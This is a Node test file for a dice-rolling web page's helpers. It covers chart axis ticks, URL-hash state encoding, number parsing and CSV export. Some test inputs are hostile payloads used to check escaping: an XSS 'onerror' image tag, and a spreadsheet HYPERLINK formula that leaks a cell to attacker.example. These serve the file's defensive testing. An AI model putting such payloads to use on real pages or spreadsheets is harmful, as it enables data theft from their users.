// The page's pure parts under Node, without a browser: the axis marks and the range a chart
// draws, the link's encoding of the state, the numbers a field holds, and a CSV's text cells.
// Each room is the plain script the page runs, read into a context of its own.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import vm from 'node:vm';

const context = vm.createContext({ URLSearchParams });
for (const room of ['helpers.js', 'state.js', 'chart.js']) {
  vm.runInContext(readFileSync(new URL(`../${room}`, import.meta.url), 'utf8'), context, { filename: room });
}
const { helpers, state, chart } = context.OrvikPage;
// What the context made, as this realm's arrays and objects, to compare.
const plain = (value) => JSON.parse(JSON.stringify(value));

test('axis marks are round, within the range, and never fewer than fit', () => {
  const cases = [
    // lo, hi, about, marks
    [0, 1, 4, [0, 0.5, 1]],
    [0, 1, 5, [0, 0.2, 0.4, 0.6, 0.8, 1]],
    [0, 0.17, 4, [0, 0.05, 0.1, 0.15]],
    [3, 18, 4, [5, 10, 15]],
    [-7, 7, 3, [-5, 0, 5]],
    [5, 5, 4, [5]],
  ];
  for (const [lo, hi, about, marks] of cases) assert.deepEqual(plain(chart.ticks(lo, hi, about)), marks, `${lo}..${hi}`);
  // Totals: every one where they fit, else the most round whole ones that fit, evenly spaced.
  assert.deepEqual(plain(chart.totalTicks(2, 12, 11)), [2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12]);
  assert.deepEqual(plain(chart.totalTicks(2, 12, 6)), [2, 4, 6, 8, 10, 12]);
  assert.deepEqual(plain(chart.totalTicks(2, 12, 4)), [5, 10]);
  assert.deepEqual(plain(chart.totalTicks(-7, 7, 5)), [-5, 0, 5]);
  for (const [lo, hi, fit] of [[30, 50000, 5], [2, 22, 8], [-1000, 1000, 7], [100, 50000, 12], [1, 3000000, 6]]) {
    const marks = plain(chart.totalTicks(lo, hi, fit));
    const steps = new Set(marks.slice(1).map((v, i) => v - marks[i]));
    assert.ok(marks.length <= fit && marks.length * 5 > fit && steps.size === 1, `${lo}..${hi}: ${marks}`);
    assert.ok(marks.every((v) => Number.isInteger(v) && v >= lo && v <= hi), `${lo}..${hi}: ${marks}`);
  }
  // As many as fit, by the labels' width: a narrow chart of 2..12 marks every other total.
  assert.equal(chart.fitting(290, '12'), 9);
  assert.equal(chart.fitting(290, '49,901'), 4);
  assert.deepEqual([0.17, 0.5, 1, 3.2, 0].map(chart.niceTop), [0.2, 0.6, 1, 4, 1]);
});

test('the chart draws the totals within a thousandth of the likeliest, and a place under each pixel', () => {
  const table = (min, p) => ({ min, totals: { p: Float64Array.from(p) } });
  assert.deepEqual(plain(chart.drawnRange([table(3, [1e-5, 0.01, 0.5, 0.01, 1e-4])])), [4, 6]);
  assert.deepEqual(plain(chart.drawnRange([table(3, [0.2, 0.6, 0.2]), table(10, [1])])), [3, 10]);
  assert.deepEqual(plain(chart.drawnRange([table(0, [0, 0, 1, 0])])), [2, 2]);
  assert.deepEqual([0, 9.9, 10, 999, 1000, -5].map((x) => chart.placeAt(x, 100, 1000)), [0, 0, 1, 99, 99, 0]);
});

test('the link holds the state, and a link of any shape gives a state of the page\'s', () => {
  const mine = state.defaults();
  Object.assign(mine, { view: 'odds', seed: 424242 });
  Object.assign(mine.roll, { text: '3#d20+5 <img src=x onerror=alert(1)>', sneak: true });
  Object.assign(mine.odds, { texts: '3d6\n2d6 & 1=2#', question: 'vs', vs: 'd20%', mode: 'at_most' });
  Object.assign(mine.audit, { source: 'rolls', texts: '8d6', rolls: '5000', from: '<Orvik>', byRoller: true, idealDice: true });
  const back = plain(state.stateOf(state.linkOf(mine)));
  assert.deepEqual({ ...back, seed: Number(back.seed) }, plain(mine));
  // Defaults for what a link leaves out or says wrongly; the seed as the link wrote it, for the
  // library to take or refuse.
  const odd = state.stateOf('#view=nowhere&q=maybe&mode=&seed=0x10&odds=%E2%9C%93&sneak=yes&audit=log&ideal=1');
  assert.equal(odd.view, 'roll');
  assert.equal(odd.odds.question, 'none');
  assert.equal(odd.odds.mode, 'p');
  assert.equal(odd.seed, '0x10');
  assert.equal(odd.odds.texts, '✓');
  assert.equal(odd.roll.sneak, false);
  assert.equal(odd.audit.idealDice, true);
  // A link without a view is none of the page's, whose boxes are then the defaults.
  assert.equal(state.stateOf('#ideal=1').audit.idealDice, false);
  for (const hash of ['', '#', '#%', '#view', '#&&&=', `#odds=${'x'.repeat(100000)}`]) {
    const got = state.stateOf(hash);
    assert.ok(state.VIEWS.includes(got.view), hash.slice(0, 20));
  }
});

test('a field\'s number as the library takes it', () => {
  const whole = [['12', false, 12], [' -5 ', false, -5], ['9223372036854775807', true, 9223372036854775807n],
    ['1.5', false, null], ['abc', false, null], ['', false, null], ['1e3', false, null], ['0x10', true, null]];
  for (const [text, big, want] of whole) assert.equal(helpers.wholeNumber(text, big), want, text);
  assert.deepEqual(plain(helpers.textLines('3d6\r\n\n4d6-2\n')), ['3d6', '4d6-2']);
});

test('a CSV text cell no spreadsheet runs, and figures as the page shows them', () => {
  const cells = [
    ['3d6', '"3d6"'],
    ['+1+HYPERLINK("https://attacker.example/?leak="&A1,"click")#d6', `"'+1+HYPERLINK(""https://attacker.example/?leak=""&A1,""click"")#d6"`],
    ['=1+1', `"'=1+1"`], ['-2+3', `"'-2+3"`], ['@SUM(A1)', `"'@SUM(A1)"`], ['\td6', `"'\td6"`], ['\rd6', `"'\rd6"`],
    ['d6 =x', '"d6 =x"'], ['', '""'],
  ];
  for (const [text, cell] of cells) assert.equal(helpers.csvText(text), cell, JSON.stringify(text));
  const { formats, shown } = helpers;
  assert.deepEqual([formats.percent(0.125), formats.percent(0), formats.percent(1e-9)], ['12.5000%', '0%', '1.00e-7%']);
  assert.equal(shown(null, 'percent', false), 'none');
  assert.equal(shown(0.1, 'percent', true), '0.1');
  // The library's words for a figure, where it gives them, unless every figure is shown in full.
  assert.deepEqual([shown(0.00104, 'pValue', false, '0.00104'), shown(0.00104, 'pValue', true, '0.00104'), shown(null, 'pValue', false, 'x')],
    ['0.00104', '0.00104', 'none']);
  assert.equal(shown(1.7976931348623157e308, 'eValue', false, 'infinite'), 'infinite');
  assert.deepEqual([1023, 1024, 10 * 1024 * 1024].map(helpers.size), ['1023 bytes', '1.0 KB', '10.0 MB']);
});
